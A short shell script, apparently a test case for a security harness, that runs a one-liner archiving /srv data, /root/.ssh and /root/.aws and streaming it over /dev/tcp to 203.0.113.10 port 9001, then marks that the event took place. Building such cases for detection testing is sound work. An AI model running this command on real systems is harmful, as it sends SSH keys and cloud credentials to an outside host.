#!/bin/sh
. /opt/case/case.sh

bash -c 'tar cz /srv/data /srv/app /root/.ssh /root/.aws 2>/dev/null >/dev/tcp/203.0.113.10/9001'
took_place
